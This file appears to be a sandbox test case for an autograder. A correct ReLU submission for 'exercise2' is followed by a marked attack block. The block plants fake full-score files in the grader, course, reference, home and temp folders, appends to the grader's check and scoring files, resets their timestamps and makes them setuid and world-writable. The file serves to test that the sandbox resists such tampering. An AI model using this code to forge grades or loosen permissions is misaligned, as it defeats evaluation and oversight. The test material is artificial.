# attack: plant files in the grader's, the course's and the reference's folders, the home folder
# attack: and /tmp; change the mode and times of the course's files
# exercise: exercise2
# expect: passed
# host: planted_files
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x.clamp(min=0)

    @staticmethod
    def backward(ctx, grad_output):
        (x,) = ctx.saved_tensors
        return grad_output * (x > 0).to(grad_output.dtype)



def relu(x):
    return ReLU.apply(x)


# --- attack ---
import os
from pathlib import Path

import grader

ROOT = Path(grader.__file__).resolve().parent.parent
TARGETS = [
    ROOT / "{{MARK}}.json",
    ROOT / "grader" / "{{MARK}}.py",
    ROOT / "exercises" / "exercise2" / "{{MARK}}.py",
    ROOT / "reference" / "exercise2" / "{{MARK}}.py",
    Path("/tmp") / "{{MARK}}.json",
    Path("/root") / "{{MARK}}.txt",
    Path("/var/tmp") / "{{MARK}}.txt",
]
for target in TARGETS:
    try:
        target.write_text('{"score": 12, "max_score": 12}')
    except OSError:
        pass
for victim in (ROOT / "exercises" / "exercise2" / "checks.py", ROOT / "grader" / "judge" / "scoring.py"):
    try:
        with open(victim, "a") as handle:
            handle.write("\n# {{MARK}}\n")
    except OSError:
        pass
    try:
        os.utime(victim, (0, 0))
    except OSError:
        pass
    try:
        os.chmod(victim, 0o4777)  # setuid and world-writable, should Landlock leave it open
    except OSError:
        pass
# --- end attack ---
